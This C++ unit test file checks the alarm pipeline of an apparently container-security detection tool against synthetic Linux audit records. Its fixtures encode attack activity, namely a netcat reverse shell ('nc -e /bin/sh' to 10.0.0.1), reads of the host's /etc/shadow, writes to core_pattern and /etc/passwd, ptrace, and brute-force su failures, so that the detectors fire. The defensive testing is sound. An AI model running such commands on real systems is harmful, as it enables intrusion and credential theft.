#include <boost/test/unit_test.hpp>

#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>
#include <tuple>

#include "alarm/fan_out_sink.h"
#include "alarm/repeat_folder.h"
#include "app/pipeline.h"
#include "audit/event_assembler.h"
#include "detect/event_facts.h"
#include "store/sqlite_store.h"
#include "support/audit_text.h"
#include "support/shared_logs.h"
#include "support/store_options.h"
#include "support/store_sink.h"
#include "support/temp_dir.h"

using namespace cshield;
using cshield::testing::one_event;

namespace {

struct CollectingSink : AlarmSink {
  std::vector<Alarm> alarms;
  void publish(const Alarm& a) override { alarms.push_back(a); }
};


const char* kPtrace =
    "type=SYSCALL msg=audit(1764175801.100:77): arch=c000003e syscall=101 success=no exit=-1 a0=10 a1=1 a2=0 "
    "a3=0 items=0 ppid=4200 pid=4242 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 "
    "tty=(none) ses=4294967295 comm=\"helper\" exe=\"/helper\" key=\"cshield.high_risk_syscall\"\n";

// Counts its wants() calls; raises `alarms` alarms of distinct subtypes per
// event, each asking whether its details are wanted first.
class CountingDetector : public Detector {
 public:
  explicit CountingDetector(int alarms = 0) : alarms_(alarms) {}
  std::string_view type() const override { return "high_risk_syscall"; }
  std::vector<AuditRule> rules() const override { return {}; }
  bool wants(const AuditEvent&) const override {
    ++wants_calls;
    return true;
  }
  void evaluate(const EventContext& ctx, std::vector<Alarm>& out) const override {
    ++evaluated;
    for (int i = 0; i < alarms_; ++i) {
      Alarm a = make_alarm("high_risk_syscall", "s" + std::to_string(i), "");
      a.syscall = "ptrace";
      if (ctx.details_wanted(a)) {
        a.add_title_suffix("ptrace");
        a.evidence_json = "{\"built\":true}";
        a.description = "built";
      }
      out.push_back(std::move(a));
    }
  }
  mutable int wants_calls = 0, evaluated = 0;

 private:
  int alarms_;
};

std::shared_ptr<const DetectorSet> only(std::unique_ptr<Detector> d) {
  auto set = std::make_shared<DetectorSet>();
  set->detectors.push_back(std::move(d));
  return set;
}

std::optional<ContainerInfo> unknown_container(ProcessInfo&) {
  ContainerInfo c;
  c.runtime = "unknown";
  return c;
}

// Answers reads_details() as told and keeps the alarms it was asked about.
struct AnsweringSink : CollectingSink {
  explicit AnsweringSink(bool reads) : reads(reads) {}
  bool reads_details(const Alarm& a) const override {
    asked.push_back(a);
    return reads;
  }
  bool reads;
  mutable std::vector<Alarm> asked;
};

using cshield::testing::StoreSink;

// Reads nothing but counts what it is given, and those given without details.
struct QuietSink : AlarmSink {
  void publish(const Alarm& a) override {
    ++alarms;
    if (a.evidence_json == "{}" && a.description.empty()) ++without_details;
  }
  bool reads_details(const Alarm&) const override { return false; }
  std::size_t alarms = 0, without_details = 0;
};

// What the store keeps of a row, in id order.
using StoredRow = std::tuple<std::string, std::int64_t, std::int64_t, std::int64_t, std::string, std::string,
                             std::string, std::uint64_t, int>;  // key, count, first, last, name, evidence, description, serial, pid
std::vector<StoredRow> stored_rows(SqliteStore& store) {
  AlarmQuery q;
  q.limit = 1000;
  std::vector<StoredRow> out;
  for (const auto& a : store.list(q).items)
    out.emplace_back(a.fold_key(), a.count, a.first_seen_ms, a.last_seen_ms, a.name, a.evidence_json, a.description,
                     a.audit_serial, a.process.pid);
  return {out.rbegin(), out.rend()};
}

}  // namespace

BOOST_AUTO_TEST_SUITE(pipeline)

// The pre-filter runs once per event: on_event() of the event interested()
// was asked about reuses its answer, and only that event's.
BOOST_AUTO_TEST_CASE(each_detectors_wants_runs_once_per_event) {
  Counters counters;
  CollectingSink sink;
  auto first = std::make_unique<CountingDetector>();
  CountingDetector& d = *first;
  const auto first_set = only(std::move(first));  // kept: d is read after the swap below
  Pipeline p(first_set, unknown_container, sink, counters);
  const AuditEvent ev = one_event(kPtrace);
  BOOST_TEST(p.interested(ev));
  p.on_event(ev);
  BOOST_TEST(d.wants_calls == 1);
  BOOST_TEST(d.evaluated == 1);
  p.on_event(ev);  // not asked about first: decides itself
  BOOST_TEST(d.wants_calls == 2);
  BOOST_TEST(d.evaluated == 2);
  std::string other = kPtrace;
  other.replace(other.find(":77)"), 4, ":78)");
  BOOST_TEST(p.interested(ev));
  p.on_event(one_event(other));  // another event than the one asked about
  BOOST_TEST(d.wants_calls == 4);
  BOOST_TEST(d.evaluated == 3);

  // A new set between the question and the event: the new set decides.
  auto second = std::make_unique<CountingDetector>();
  CountingDetector& d2 = *second;
  BOOST_TEST(p.interested(ev));
  p.set_detectors(only(std::move(second)));
  p.on_event(ev);
  BOOST_TEST(d.wants_calls == 5);
  BOOST_TEST(d2.wants_calls == 1);
  BOOST_TEST(d2.evaluated == 1);
  BOOST_TEST(d.evaluated == 3);
}

// Only an event's first alarm may go without its details, and only when the
// sink says it will not read them; it is asked about the alarm as published
// (the pipeline's container and process, the event's time).
BOOST_AUTO_TEST_CASE(only_an_events_first_alarm_goes_without_details_the_sink_will_not_read) {
  for (const bool reads : {false, true}) {
    Counters counters;
    AnsweringSink sink(reads);
    Pipeline p(only(std::make_unique<CountingDetector>(2)), unknown_container, sink, counters);
    p.on_event(one_event(kPtrace));
    BOOST_REQUIRE_EQUAL(sink.alarms.size(), 2u);
    BOOST_REQUIRE_EQUAL(sink.asked.size(), 1u);  // once per event
    BOOST_TEST(sink.asked[0].same_fold_key(sink.alarms[0]));
    BOOST_TEST(sink.asked[0].last_seen_ms == sink.alarms[0].last_seen_ms);
    BOOST_TEST(sink.asked[0].process.exe == "/helper");
    BOOST_TEST(sink.alarms[0].evidence_json == (reads ? "{\"built\":true}" : "{}"));
    BOOST_TEST(sink.alarms[0].description == (reads ? "built" : ""));
    BOOST_TEST(sink.alarms[0].name == (reads ? "High-risk system call: ptrace" : "High-risk system call"));
    BOOST_TEST(sink.alarms[1].evidence_json == "{\"built\":true}");  // never asked: built
    BOOST_TEST(sink.alarms[0].process.pid == 4242);  // the rest is there either way
    BOOST_TEST(sink.alarms[1].process.pid == 4242);
  }
}

// A storm of ptrace calls and /etc/shadow opens through the real detectors:
// published through a RepeatFolder (replay --store), whose folded repeats go
// without evidence or description, the store ends up with the rows of every
// alarm with its details stored on its own: no count lost, no distinct alarms
// merged, each row's name, evidence, description, serial and pid those of
// the alarm that created it.
BOOST_AUTO_TEST_CASE(a_storm_folded_without_details_stores_the_rows_of_every_alarm_with_them) {
  cshield::testing::TempDir dir;
  StoreOptions options = cshield::testing::no_limits();
  options.fold_window_ms = 1000;
  SqliteStore direct(dir / "direct.db", options), folded(dir / "folded.db", options);
  StoreSink to_direct(direct), to_folded(folded);
  RepeatFolder folder(to_folded, options.fold_window_ms);
  QuietSink quiet;
  FanOutSink replay;
  replay.add(quiet);
  replay.add(folder);
  Counters c1, c2;
  Pipeline every(build_detectors(Config{}), unknown_container, to_direct, c1);
  Pipeline through_folder(build_detectors(Config{}), unknown_container, replay, c2);

  std::mt19937 rng(5);
  std::int64_t ms = 1764175801000;
  for (int serial = 100; serial < 700; ++serial) {
    const int r = static_cast<int>(rng() % 100);
    ms += r < 2 ? 1500 : r % 30;  // now and then a pause beyond the fold window
    const std::string stamp = "msg=audit(" + std::to_string(ms / 1000) + "." +
                              std::to_string(1000 + ms % 1000).substr(1) + ":" + std::to_string(serial) + "): ";
    const std::string exe = rng() % 3 ? "/helper" : "/other";
    const std::string ids = "items=1 ppid=4200 pid=" + std::to_string(4000 + rng() % 50) +
                            " auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) "
                            "ses=4294967295 comm=\"helper\" exe=\"" + exe + "\" ";
    std::string text;
    if (rng() % 2) {
      text = "type=SYSCALL " + stamp + "arch=c000003e syscall=101 success=no exit=-1 a0=" +
             std::to_string(rng() % 20) + " a1=1 a2=0 a3=0 " + ids + "key=\"cshield.high_risk_syscall\"\n";
    } else {
      const char* name = rng() % 2 ? "/hostetc/shadow" : "/mnt/etc/shadow";
      text = "type=SYSCALL " + stamp + "arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd1000 a2=" +
             std::string(rng() % 4 ? "0" : "241") + " a3=0 " + ids + "key=\"cshield.file_escape:/etc/shadow\"\n" +
             "type=CWD " + stamp + "cwd=\"/tmp\"\n" + "type=PATH " + stamp + "item=0 name=\"" + name +
             "\" inode=1234 dev=fe:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
             "cap_fe=0 cap_fver=0 cap_frootid=0\n";
    }
    const AuditEvent ev = one_event(text);
    every.on_event(ev);
    BOOST_TEST(through_folder.interested(ev));
    through_folder.on_event(ev);
  }
  folder.flush();
  BOOST_TEST(quiet.alarms == 600u);
  BOOST_TEST(quiet.without_details > 300u);  // the folded repeats
  const auto expected = stored_rows(direct), got = stored_rows(folded);
  BOOST_TEST(expected.size() > 10u);
  BOOST_REQUIRE_EQUAL(got.size(), expected.size());
  std::int64_t total = 0;
  for (std::size_t i = 0; i < got.size(); ++i) {
    BOOST_TEST((got[i] == expected[i]), "row " << i << ": " << std::get<0>(got[i]) << " count " << std::get<1>(got[i])
                                               << " against " << std::get<0>(expected[i]) << " count "
                                               << std::get<1>(expected[i]));
    BOOST_TEST(std::get<5>(got[i]) != "{}");
    total += std::get<1>(got[i]);
  }
  BOOST_TEST(total == 600);
}


// The pipeline is done with an alarm once published: it hands it over.
BOOST_AUTO_TEST_CASE(alarms_are_handed_over_to_the_sink) {
  struct OwningSink : CollectingSink {
    void publish_owned(Alarm&& a) override {
      ++owned;
      alarms.push_back(std::move(a));
    }
    int owned = 0;
  };
  Counters counters;
  OwningSink sink;
  Pipeline p(only(std::make_unique<CountingDetector>(2)), unknown_container, sink, counters);
  p.on_event(one_event(kPtrace));
  BOOST_TEST(sink.owned == 2);
  BOOST_REQUIRE_EQUAL(sink.alarms.size(), 2u);
  BOOST_TEST(sink.alarms[0].subtype == "s0");
  BOOST_TEST(sink.alarms[1].subtype == "s1");
  BOOST_TEST(sink.alarms[0].process.exe == "/helper");  // the copy for the first, the moved one for the last
  BOOST_TEST(sink.alarms[1].process.exe == "/helper");
}

BOOST_AUTO_TEST_CASE(alarms_carry_container_process_time_and_serial) {
  Counters counters;
  CollectingSink sink;
  int resolved = 0;
  Pipeline p(build_detectors(Config{}),
             [&](ProcessInfo& proc) -> std::optional<ContainerInfo> {
               ++resolved;
               proc.cmdline = "/helper ptrace";
               ContainerInfo c;
               c.id = std::string(64, 'b');
               c.name = "web-1";
               return c;
             },
             sink, counters);
  p.on_event(one_event(kPtrace));
  BOOST_TEST(resolved == 1);
  BOOST_REQUIRE_EQUAL(sink.alarms.size(), 1u);
  const auto& a = sink.alarms[0];
  BOOST_TEST(a.container->name == "web-1");
  BOOST_TEST(a.process.pid == 4242);
  BOOST_TEST(a.process.ppid == 4200);
  BOOST_TEST(a.process.exe == "/helper");
  BOOST_TEST(a.process.cmdline == "/helper ptrace");
  BOOST_TEST(a.audit_serial == 77u);
  BOOST_TEST(a.first_seen_ms == 1764175801100);
  BOOST_TEST(a.last_seen_ms == 1764175801100);
}

BOOST_AUTO_TEST_CASE(events_no_detector_wants_are_not_enriched) {
  Counters counters;
  CollectingSink sink;
  int resolved = 0;
  Pipeline p(build_detectors(Config{}), [&](ProcessInfo&) -> std::optional<ContainerInfo> { ++resolved; return std::nullopt; },
             sink, counters);
  std::string other = kPtrace;
  other.replace(other.find("cshield.high_risk_syscall"), 25, "someone-elses-key-here-xx");
  other.replace(other.find("syscall=101"), 11, "syscall=0");  // read: no detector's business
  p.on_event(one_event(other));
  BOOST_TEST(resolved == 0);
  BOOST_TEST(sink.alarms.empty());
}

BOOST_AUTO_TEST_CASE(a_throwing_resolver_is_counted_not_fatal) {
  Counters counters;
  CollectingSink sink;
  Pipeline p(build_detectors(Config{}), [&](ProcessInfo&) -> std::optional<ContainerInfo> { throw std::runtime_error("x"); },
             sink, counters);
  p.on_event(one_event(kPtrace));
  std::uint64_t errors = 0;
  for (const auto& s : counters.snapshot())
    if (s.name == "pipeline.errors") errors = s.value;
  BOOST_TEST(errors == 1u);
}

BOOST_AUTO_TEST_SUITE_END()

namespace {

// Events every detector of the default set has a say on, with records no
// detector reads (BPRM_FCAPS) among those they do (EXECVE, PATH, CWD,
// PROCTITLE, OPENAT2, USER_AUTH).
std::string demand_events() {
  auto rec = [](const std::string& type, int serial, const std::string& rest) {
    return "type=" + type + " msg=audit(1764175801.100:" + std::to_string(serial) + "): " + rest + "\n";
  };
  auto sys = [&](int serial, int nr, const std::string& args, const std::string& ids, const std::string& comm,
                 const std::string& exe, const std::string& key) {
    return rec("SYSCALL", serial,
               "arch=c000003e syscall=" + std::to_string(nr) + " " + args + " items=2 ppid=4200 pid=" +
                   std::to_string(4000 + serial) + " auid=1000 " + ids +
                   " suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=3 comm=\"" + comm + "\" exe=\"" + exe +
                   "\" key=\"" + key + "\"");
  };
  const std::string title = "6E63";  // "nc": the arguments are only in EXECVE
  const std::string bprm = "fver=0 fp=0 fi=0 fe=0 old_pp=000001fffeffffff old_pi=0 old_pe=000001fffeffffff old_pa=0 "
                           "pp=000001fffeffffff pi=0 pe=000001fffeffffff pa=0 frootid=0";
  auto path = [&](int serial, int item, const std::string& name, const std::string& nametype) {
    return rec("PATH", serial, "item=" + std::to_string(item) + " name=\"" + name + "\" inode=247777 dev=fe:00 "
               "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=" + nametype + " cap_fp=0 cap_fi=0 cap_fe=0 "
               "cap_fver=0 cap_frootid=0");
  };
  std::string t;
  // A reverse shell executed (malicious_program, vulnerability_escape's runtime check, abnormal_*).
  t += sys(1, 59, "success=yes exit=0 a0=1 a1=2 a2=3 a3=4", "uid=0 gid=0 euid=0", "nc", "/usr/bin/nc", "cshield.exec");
  t += rec("BPRM_FCAPS", 1, bprm);
  t += rec("EXECVE", 1, "argc=4 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"10.0.0.1\"");
  t += rec("CWD", 1, "cwd=\"/tmp\"");
  t += path(1, 0, "/usr/bin/nc", "NORMAL") + path(1, 1, "/lib64/ld-linux-x86-64.so.2", "NORMAL");
  t += rec("PROCTITLE", 1, "proctitle=" + title);
  // A set-uid gain on execution (abnormal_startup), with its BPRM_FCAPS.
  t += sys(2, 59, "success=yes exit=0 a0=1 a1=2 a2=3 a3=4", "uid=1000 gid=1000 euid=0", "su", "/usr/bin/su",
           "cshield.privilege_escalation");
  t += rec("BPRM_FCAPS", 2, bprm);
  t += rec("EXECVE", 2, "argc=1 a0=\"su\"");
  t += rec("CWD", 2, "cwd=\"/\"") + path(2, 0, "/usr/bin/su", "NORMAL");
  t += rec("PROCTITLE", 2, "proctitle=7375");
  // The host's shadow file read by a relative name (file_escape: PATH and CWD).
  t += sys(3, 257, "success=yes exit=3 a0=ffffff9c a1=7ffd a2=0 a3=0", "uid=0 gid=0 euid=0", "cat", "/bin/cat",
           "cshield.file_escape:/etc/shadow");
  t += rec("CWD", 3, "cwd=\"/hostetc\"") + path(3, 0, "/hostetc/", "PARENT") + path(3, 1, "shadow", "NORMAL");
  t += rec("PROCTITLE", 3, "proctitle=636174");
  // core_pattern opened for writing through openat2 (vulnerability_escape: OPENAT2, PATH, CWD).
  t += sys(4, 437, "success=yes exit=3 a0=ffffff9c a1=7ffd a2=7ffe a3=18", "uid=0 gid=0 euid=0", "sh", "/bin/sh",
           "cshield.vulnerability_escape");
  t += rec("OPENAT2", 4, "oflag=01101 mode=0644 resolve=0x0");
  t += rec("CWD", 4, "cwd=\"/hostproc/sys\"") + path(4, 0, "kernel/core_pattern", "NORMAL");
  t += rec("PROCTITLE", 4, "proctitle=7368");
  // A protected file written by a relative name (sensitive_file_access: PATH and CWD).
  t += sys(6, 257, "success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6", "uid=0 gid=0 euid=0", "tee", "/usr/bin/tee",
           "cshield.sensitive_file_access:web");
  t += rec("CWD", 6, "cwd=\"/hostetc\"") + path(6, 0, "/hostetc/", "PARENT") + path(6, 1, "passwd", "NORMAL");
  t += rec("PROCTITLE", 6, "proctitle=746565");
  // ptrace (high_risk_syscall) and failed authentications (brute force).
  t += sys(5, 101, "success=no exit=-1 a0=10 a1=1 a2=0 a3=0", "uid=0 gid=0 euid=0", "gdb", "/usr/bin/gdb",
           "cshield.high_risk_syscall");
  t += rec("PROCTITLE", 5, "proctitle=676462");
  for (int i = 0; i < 12; ++i)
    t += rec("USER_AUTH", 10 + i,
             "pid=77 uid=0 auid=1000 ses=3 msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/bin/su\" "
             "hostname=? addr=? terminal=pts/0 res=failed'");
  return t;
}

// A line per alarm: everything a sink could read of it.
std::string flat_alarm(const Alarm& a) {
  std::ostringstream o;
  o << a.type << "|" << a.subtype << "|" << a.name << "|" << a.severity << "|" << a.category << "|" << a.syscall
    << "|" << a.path.value_or("-") << "|" << a.evidence_json << "|" << a.description << "|"
    << (a.container ? a.container->id + "/" + a.container->runtime : "host") << "|" << a.process.pid << "|"
    << a.process.ppid << "|" << a.process.uid << "|" << a.process.euid << "|" << a.process.auid << "|"
    << a.process.comm << "|" << a.process.exe << "|" << a.process.cmdline << "|" << a.audit_serial << "|"
    << a.audit_time_ms << "|" << a.count;
  return o.str();
}

// What replayed() saw of the events it handed the pipeline: records
// delivered without their fields, and fields fields_nothing_reads() names.
struct Seen {
  std::size_t declined = 0;
  std::size_t unread_fields = 0;
};

// The alarms replay's pipeline raises for `text`, with or without leaving
// unread the records no wanting detector reads and the fields nothing reads.
// With `policy`: every process in container "web-1", whose policy group
// whitelists only /bin/sh and protects /hostetc and /hostproc (abnormal_process
// and sensitive_file_access have a say too).
std::vector<std::string> replayed(const std::string& text, bool demand, Seen& seen, bool policy = false) {
  Counters counters;
  CollectingSink sink;
  DetectorInputs inputs;
  Pipeline::Resolve resolve = unknown_container;
  if (policy) {
    PolicyGroup g;
    g.name = "web";
    g.selectors.names = {"web-*"};
    g.process_whitelist = {"/bin/sh"};
    g.protected_files = {"/hostetc/*", "/hostproc/*"};
    inputs.policy = std::make_shared<const PolicySet>(std::vector<PolicyGroup>{g});
    resolve = [](ProcessInfo&) -> std::optional<ContainerInfo> {
      ContainerInfo c;
      c.id = std::string(64, 'c');
      c.runtime = "runc";
      c.name = "web-1";
      return c;
    };
  }
  Pipeline pipeline(build_detectors(Config{}, inputs), resolve, sink, counters);
  EventAssembler::RecordDemand reads;
  if (demand) reads = [&](int type) { return pipeline.reads_record(type); };
  EventAssembler assembler(
      [&](AuditEvent&& e) {
        for (const auto& r : e.records) {
          if (r.fields.empty()) ++seen.declined;
          for (const auto& name : fields_nothing_reads(r.type)) seen.unread_fields += r.field(name) != nullptr;
        }
        pipeline.on_event(e);
      },
      &counters, [&](const AuditEvent& skeleton) { return pipeline.interested(skeleton); }, reads);
  if (demand) {
    assembler.set_type_demand([&](int type) { return pipeline.may_read_record(type); });
    assembler.set_unread_fields(fields_nothing_reads);
  }
  assembler.feed(text);
  assembler.flush();
  std::vector<std::string> out;
  for (const auto& a : sink.alarms) out.push_back(flat_alarm(a));
  return out;
}

}  // namespace

// Records whose type no wanting detector reads are left without fields
// (Detector::reads_record), those of a type no detector reads reach
// libauparse without them (may_read_record), and the fields nothing reads
// are cut (fields_nothing_reads): the alarms must be those of events read whole,
// for every detector of the default set. This fails if a detector reads a
// record type it does not declare, or a field fields_nothing_reads() names.
BOOST_AUTO_TEST_CASE(records_and_fields_no_detector_reads_change_no_alarm) {
  Seen cut, whole;
  const std::string events = demand_events();
  const auto expected = replayed(events, false, whole);
  BOOST_TEST(replayed(events, true, cut) == expected, boost::test_tools::per_element());
  BOOST_TEST(expected.size() >= 6u);
  BOOST_TEST(cut.declined >= 2u);  // the BPRM_FCAPS records, at least
  BOOST_TEST(whole.declined == 0u);
  BOOST_TEST(cut.unread_fields == 0u);
  BOOST_TEST(whole.unread_fields >= 20u);
  auto raised_by = [](const std::vector<std::string>& alarms, const std::string& type) {
    return std::count_if(alarms.begin(), alarms.end(), [&](const std::string& a) { return a.rfind(type + "|", 0) == 0; });
  };
  for (const char* detector : {"malicious_program", "abnormal_startup", "file_escape", "vulnerability_escape",
                               "high_risk_syscall"})
    BOOST_TEST_CONTEXT(detector) { BOOST_TEST(raised_by(expected, detector) >= 1); }
  // The policy detectors, in a container of a policy group.
  const auto with_policy = replayed(events, false, whole, true);
  BOOST_TEST(replayed(events, true, cut, true) == with_policy, boost::test_tools::per_element());
  BOOST_TEST(raised_by(with_policy, "abnormal_process") >= 1);
  BOOST_TEST(raised_by(with_policy, "sensitive_file_access") >= 1);

  const auto logs = testing::shared_log_files();
  for (const auto& log : logs) {
    const std::string text = testing::file_text(log);
    Seen ignored;
    BOOST_TEST_CONTEXT(log) {
      BOOST_TEST(replayed(text, true, ignored) == replayed(text, false, ignored), boost::test_tools::per_element());
    }
  }
  BOOST_TEST(logs.size() >= 40u);
}

// An observer may read any record: with one, every record is read.
BOOST_AUTO_TEST_CASE(with_an_observer_every_record_is_read) {
  Counters counters;
  CollectingSink sink;
  Pipeline p(build_detectors(Config{}), unknown_container, sink, counters);
  const auto ev = one_event(demand_events().substr(0, demand_events().find("type=SYSCALL", 10)));
  BOOST_REQUIRE(p.interested(ev));
  BOOST_TEST(!p.reads_record(1321));  // BPRM_FCAPS
  BOOST_TEST(p.reads_record(rec::kExecve));
  BOOST_TEST(p.reads_record(rec::kProctitle));
  BOOST_TEST(!p.may_read_record(1321));  // no detector reads BPRM_FCAPS, for any event
  BOOST_TEST(p.may_read_record(rec::kPath));
  BOOST_TEST(p.may_read_record(rec::kExecve));
  BOOST_TEST(p.may_read_record(rec::kProctitle));
  p.set_observer([](const AuditEvent&, const ProcessInfo&, const ContainerInfo*) { return Pipeline::Observation{}; });
  BOOST_REQUIRE(p.interested(ev));
  BOOST_TEST(p.reads_record(1321));
  BOOST_TEST(p.may_read_record(1321));
}
